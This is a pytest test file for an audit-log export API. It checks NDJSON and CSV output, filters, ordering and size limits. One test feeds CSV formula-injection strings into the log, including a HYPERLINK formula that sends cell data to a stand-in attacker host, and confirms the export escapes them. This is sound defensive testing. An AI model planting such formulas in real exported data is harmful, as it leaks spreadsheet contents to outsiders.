import json
from typing import Any

import pytest

from chalicelib.features.audit.exports.logic import inline_export
from chalicelib.features.audit.log.logic import entry_queries as logs
from chalicelib.kernel.execution import envelope
from tests.harness.api import ApiClient, ApiResponse, Json
from tests.harness.audit_logs import list_entries
from tests.harness.exports import append_entries, get_inline_export, parse_csv
from tests.harness.invitations import create_invitation
from tests.harness.organizations import CreatedOrganization, add_organization_member, create_organization
from tests.http.audit.conftest import build_filter_queries

COLUMNS = (
    '"sequence","id","occurredAt","type","actorType","actorId","actorName","targetType","targetId","targetName",'
    '"operationId","requestId","ipAddress","userAgent","changes","data","leafHash","treeSize","erased"'
)


def exported_entries(api: ApiClient, organization: CreatedOrganization, **query: Any) -> list[Json]:
    response = get_inline_export(api, organization, **query)
    assert response.status == 200, response.text
    assert response.text == "" or response.text.endswith("\n")
    return [json.loads(line) for line in response.text.splitlines()]


class TestExportAuditLog:
    def test_the_file_has_a_line_for_each_entry_whatever_the_limit_of_lists(self, api, log, clock):
        timestamp = clock.freeze()
        response = log.get("/export", limit=1)
        assert response.headers["Content-Type"] == "application/x-ndjson"
        name = f"{log.organization.record['slug']}-audit-log-{timestamp[:10]}.ndjson"
        assert response.headers["Content-Disposition"] == f'attachment; filename="{name}"'
        assert response.headers["Cache-Control"] == "no-store"
        assert [json.loads(line) for line in response.text.splitlines()] == log.entries()[::-1]

    def test_pending_entries_come_last_and_change_the_entity_tag(self, api, log):
        etag = log.get("/export").etag
        log.rename("First")
        log.rename("Second")
        listed = exported_entries(api, log.organization)
        assert [entry["sequence"] for entry in listed] == [*range(1, 11), None, None]
        assert [entry["data"]["name"] for entry in listed[-2:]] == ["First", "Second"]
        assert log.get("/export").etag != etag

    def test_entries_are_in_the_order_of_their_sequence_despite_clock_skew(self, api, ada, clock, workers):
        organization, _ = create_organization(api, ada), create_organization(api, ada)
        for shift, address in ((60, "first@example.org"), (-90, "second@example.org")):
            clock.shift(seconds=shift)
            create_invitation(api, organization, address)
            workers.deliver()
        assert [entry["sequence"] for entry in list_entries(api, organization)] == [2, 1, 3]
        assert [entry["sequence"] for entry in exported_entries(api, organization)] == [1, 2, 3]

    def test_long_entries_are_complete(self, api, ada, workers):
        organization = create_organization(api, ada, companyAddress="é" * 3000)
        assert exported_entries(api, organization) == list_entries(api, organization)
        workers.deliver()
        assert exported_entries(api, organization) == list_entries(api, organization)

    def test_unreadable_entries_are_omitted(self, log):
        log.alter(3, body=b"no json")
        log.alter(5, body=log.entry(5)["body"][:-1] + b"\n}")
        log.remove_attributes(7, "body")
        for export_format in ("ndjson", "csv"):
            lines = log.get("/export", format=export_format).text.splitlines()
            assert len(lines) == 7 + (export_format == "csv")


class TestFilters:
    def test_the_filters_match_those_of_the_list(self, api, mixed_log, grace):
        queries = build_filter_queries(mixed_log.entries(), "organization.updated", grace.id, mixed_log.id)
        for query in (*queries, {"actorId": grace.id.upper()}, {"actorId": "nobody"}):
            assert exported_entries(api, mixed_log.organization, **query) == mixed_log.entries(**query)[::-1], query

    @pytest.mark.parametrize(
        ("query", "errors"),
        [
            ({"type": "*.member"}, {"query/type": "malformed"}),
            ({"from": "yesterday"}, {"query/from": "malformed"}),
            ({"to": "2026-11-20"}, {"query/to": "malformed"}),
            ({"from": "2026-11-20T09:30:00Z", "to": "2026-11-19T09:30:00Z"}, {"query/from": "out_of_range"}),
            *(({"format": name}, {"query/format": "not_one_of"}) for name in ("xml", "", "NDJSON", "ndjson.gz")),
        ],
    )
    def test_an_invalid_filter_or_format_is_rejected(self, new_log, query, errors):
        rejected = new_log.get("/export", **query)
        assert (rejected.status_and_code, rejected.errors) == ("422 validation_failed", errors)


class TestCsv:
    def test_a_csv_file_has_a_row_for_each_entry(self, api, log):
        response = log.get("/export", format="csv")
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
        assert response.headers["Content-Disposition"].endswith('.csv"')
        assert response.text.splitlines()[0] == COLUMNS
        entries, rows = exported_entries(api, log.organization), parse_csv(response.text)
        assert [(row["id"], row["sequence"]) for row in rows] == [(e["id"], str(e["sequence"])) for e in entries]
        assert [json.loads(row["data"]) for row in rows] == [entry["data"] for entry in entries]
        assert log.get("/export", format="csv", actorId="nobody").text == f"{COLUMNS}\r\n"

    def test_formulas_are_escaped(self, api, new_log):
        texts = ["=1+1", "+1", "-1", "@A1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff20A1", '  "=1+1', "\u200b=1"]
        for text in texts:
            new_log.rename(text)
        agent = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
        new_log.rename("a;=1+1", headers={"User-Agent": agent})
        rows = parse_csv(new_log.get("/export", format="csv", type="organization.updated").text)
        assert [row["targetName"] for row in rows] == [*(f"'{text.strip()}" for text in texts), "a;'=1+1"]
        assert rows[-1]["userAgent"] == f"'{agent}"


def assert_too_large(api: ApiClient, organization: CreatedOrganization, reason: str, **query: Any) -> ApiResponse:
    rejected = get_inline_export(api, organization, **query)
    assert rejected.status_and_code == "409 export_too_large"
    assert reason in rejected.json["detail"]
    assert f"POST {organization.path}/audit-log/export-async" in rejected.json["detail"]
    return rejected


class TestTooLargeExports:
    def test_the_limits_are_those_of_the_contract(self):
        assert (inline_export.MAX_ENTRIES, inline_export.MAX_BYTES) == (10_000, 5_000_000)

    def test_too_many_entries_are_rejected(self, api, log, monkeypatch):
        monkeypatch.setattr(inline_export, "MAX_ENTRIES", 10)
        assert len(exported_entries(api, log.organization)) == 10
        log.rename("One more")
        assert_too_large(api, log.organization, "more than 10 entries")
        assert len(exported_entries(api, log.organization, type="organization.updated")) == 10

    @pytest.mark.parametrize("char_count", [100, 6_000])
    def test_too_many_bytes_are_rejected_without_a_read_of_further_bodies(self, api, ada, monkeypatch, char_count):
        organization = create_organization(api, ada)
        append_entries(organization.id, 30, char_count)
        size = len(get_inline_export(api, organization).text.encode())
        monkeypatch.setattr(inline_export, "MAX_BYTES", size)
        assert len(exported_entries(api, organization)) == 31
        for max_bytes in (size - 1, size // 4):
            monkeypatch.setattr(inline_export, "MAX_BYTES", max_bytes)
            rejected = assert_too_large(api, organization, f"more than {max_bytes:,} bytes")
        if char_count == 6_000:  # Each of these entries has a separate body.
            assert rejected.calls.call_names == ["dynamodb:BatchGetItem", "dynamodb:Query"]

    def test_escaped_characters_count_with_their_encoded_size(self, api, ada, monkeypatch):
        organization = create_organization(api, ada, name="🚂" * 200, slug="trains")
        text = get_inline_export(api, organization).text
        monkeypatch.setattr(envelope, "MAX_ENVELOPE_BYTES", len(json.dumps(text)) + 10_000)
        assert get_inline_export(api, organization).text == text
        monkeypatch.setattr(envelope, "MAX_ENVELOPE_BYTES", len(json.dumps(text)))
        assert_too_large(api, organization, "than a response can be")

    def test_a_filter_that_matches_few_entries_has_a_query_limit(self, api, ada, grace, monkeypatch):
        organization = create_organization(api, ada)
        add_organization_member(organization, grace, "admin")
        append_entries(organization.id, 25, 6_000)
        monkeypatch.setattr(inline_export, "MAX_ENTRIES", 9)  # This is also the page size of the queries.
        monkeypatch.setattr(logs, "_FILTERED_PAGE_SIZE", 1)
        monkeypatch.setattr(inline_export, "MAX_QUERIES", 3)
        assert len(exported_entries(api, organization, type="organization.invitation.*")) == 1
        monkeypatch.setattr(inline_export, "MAX_QUERIES", 2)
        assert_too_large(api, organization, "too long to be searched", type="organization.invitation.*")
        assert len(exported_entries(api, organization, type="organization.invitation.accepted")) == 1
